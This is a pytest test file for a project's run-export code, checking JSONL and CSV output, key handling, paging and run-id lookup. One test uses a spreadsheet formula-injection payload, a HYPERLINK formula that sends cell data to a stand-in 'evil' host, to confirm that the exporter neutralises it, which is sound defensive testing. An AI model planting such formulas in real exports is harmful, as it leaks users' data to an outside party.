"""Exports hold every attempt and every key, and open safely in other programs."""

import csv
import io
import json
from collections.abc import Mapping
from typing import Any

import pytest

from prismenv.contracts.archive import NodeRecord, Store
from prismenv.engine.exports import COLUMNS, export_run
from prismenv.words.errors import StorageException
from prismenv.words.nodes import NodeOutcome, NodeRequest
from prismenv.words.records import ChallengeResults, TrailRecord
from prismenv.words.verdict import Verdict


def jsonl(store: Store, run_id: str = "run-1") -> list[dict[str, Any]]:
    out = io.StringIO()
    count = export_run(store, run_id, "jsonl", out)
    lines = [json.loads(line, parse_constant=_refuse) for line in out.getvalue().splitlines()]
    assert count == len(lines)
    return lines


def table(store: Store) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    count = export_run(store, "run-1", "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert count == len(rows)
    return rows


def _refuse(constant: str) -> None:
    raise AssertionError(f"{constant} is no JSON")


def node_with(index: int = 0, fault: Any = "none", error: str | None = None, **record: Any) -> NodeRecord:
    result = None if error else ChallengeResults(success=False, data_trail=(TrailRecord(**record),))
    return NodeRecord(NodeOutcome(NodeRequest(index, "a|easy", ("a",), "easy", 1), result, fault, error))


def test_each_attempt_is_a_line_with_the_facts_of_run_and_node_and_every_key(store: Store, make_run, make_node) -> None:
    store.save_run(make_run())
    store.save_nodes("run-1", [make_node(0, attempts=2)])
    store.save_nodes("run-1", [make_node(1, attempts=1, passed=False)])
    lines = jsonl(store)
    assert [(line["node_index"], line["position"], line["attempt_num"]) for line in lines] == [
        (0, 0, 0),
        (0, 1, 1),
        (1, 0, 0),
    ]
    for line in lines:
        assert set(TrailRecord.model_fields) <= set(line)
        assert (line["run_id"], line["run_name"], line["difficulty"]) == ("run-1", "quickstart", "easy")
        assert line["concepts"] == ["loops", "sorting"]
        assert line["own_key"] == {"nested": [1, None, "ä"]}
        assert line["verdict"]["cases"][0]["name"] == "test_sum"
        assert line["usage"]["problem_solver"]["prompt_tokens"] == 10
    assert [line["node_success"] for line in lines] == [True, True, False]


def test_the_own_keys_of_a_result_are_on_every_line(store: Store, make_run) -> None:
    own = {"data": {"a": 1, "ratio": float("nan")}, "odd": {1}}
    trails = ((), (TrailRecord(), TrailRecord(attempt_num=1)))
    store.save_run(make_run())
    for index, trail in enumerate(trails):
        result = ChallengeResults(success=True, data_trail=trail, **own)
        request = NodeRequest(index, f"a|easy|{index}", ("a",), "easy", 1)
        store.save_nodes("run-1", [NodeRecord(NodeOutcome(request, result))])
    store.save_nodes("run-1", [node_with(2, result="a record's own")])
    store.save_nodes("run-1", [node_with(3, error="it broke")])
    expected = {"data": {"a": 1, "ratio": None}, "odd": [1]}
    assert [line["result"] for line in jsonl(store)] == [expected, expected, expected, {}, None]
    cells = [row["result"] for row in table(store)]
    assert [json.loads(cell) for cell in cells[:4]] == [expected, expected, expected, {}]
    assert cells[4] == ""


def test_a_node_that_failed_without_an_attempt_does_not_vanish(store: Store, make_run) -> None:
    store.save_run(make_run())
    store.save_nodes("run-1", [node_with(error="it broke", fault="environment")])
    (line,) = jsonl(store)
    assert (line["node_error"], line["node_fault"], line["position"]) == ("it broke", "environment", None)
    (row,) = table(store)
    assert (row["node_error"], row["position"], row["solution_code"]) == ("it broke", "", "")


def test_a_key_of_the_environment_never_replaces_a_fact(store: Store, make_run) -> None:
    store.save_run(make_run())
    store.save_nodes("run-1", [node_with(run_id="forged", position="forged", node_success=True)])
    (line,) = jsonl(store)
    assert (line["run_id"], line["position"], line["node_success"]) == ("run-1", 0, False)


def test_the_table_has_the_documented_columns_and_the_verdict_spread_out(store: Store, make_run, make_node) -> None:
    store.save_run(make_run())
    store.save_nodes("run-1", [make_node(0, attempts=1, passed=False)])
    (row,) = table(store)
    assert tuple(row) == COLUMNS
    assert {f"verdict_{key}" for key in Verdict.model_fields} | set(TrailRecord.model_fields) - {"verdict"} <= set(
        COLUMNS
    )
    assert row["verdict_outcome"] == "failed"
    assert row["tests_failed_num"] == "1"
    assert row["success"] == "false"
    assert json.loads(row["concepts"]) == ["loops", "sorting"]
    assert json.loads(row["verdict_cases"])[0]["outcome"] == "failed"
    assert json.loads(row["own"]) == {"own_key": {"nested": [1, None, "ä"]}}
    assert row["solution_code"].splitlines() == ["def add(a, b):", "    return a + b  # 0"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_cell_is_a_formula(store: Store, make_run, start: str) -> None:
    attack = f'{start}HYPERLINK("http://evil/?"&A1)'
    store.save_run(make_run(name=attack))
    store.save_nodes("run-1", [node_with(solution_code=attack, output=attack, seed=-5)])
    (row,) = table(store)
    assert row["solution_code"] == row["output"] == row["run_name"] == f"'{attack}"
    assert row["seed"] == "-5"
    (line,) = jsonl(store)
    assert line["solution_code"] == attack


def test_hostile_text_cannot_break_a_line(store: Store, make_run) -> None:
    store.save_run(make_run())
    hostile = 'a\r\nb"c,d\u2028e\x00f'
    store.save_nodes("run-1", [node_with(output=hostile, extra="lone \ud800", number=float("nan"))])
    (line,) = jsonl(store)
    assert (line["output"], line["number"]) == (hostile, None)
    (row,) = table(store)
    assert row["output"] == hostile
    out = io.StringIO()
    export_run(store, "run-1", "jsonl", out)
    assert len(out.getvalue().encode().split(b"\n")) == 2


def test_an_export_holds_one_page_of_nodes_at_a_time(store: Store, make_run, make_node) -> None:
    store.save_run(make_run())
    for index in range(230):
        store.save_nodes("run-1", [make_node(index, attempts=1)])

    class Stopping(io.StringIO):
        def write(self, text: str) -> int:
            if self.tell() > 1000:
                raise BrokenPipeError
            return super().write(text)

    with pytest.raises(BrokenPipeError):
        export_run(store, "run-1", "jsonl", Stopping())
    assert len(jsonl(store)) == 230


def test_an_unknown_run_is_named_before_anything_is_written(store: Store, make_run) -> None:
    store.save_run(make_run("run-abc"))
    out = io.StringIO()
    with pytest.raises(StorageException, match="Did you mean run-abc"):
        export_run(store, "run-abd", "csv", out)
    assert out.getvalue() == ""


def test_the_beginning_of_an_id_is_enough(store: Store, make_run, make_node) -> None:
    store.save_run(make_run("run-abc"))
    store.save_nodes("run-abc", [make_node(0, attempts=1)])
    (line,) = jsonl(store, "run-a")
    facts: Mapping[str, Any] = line
    assert facts["run_id"] == "run-abc"
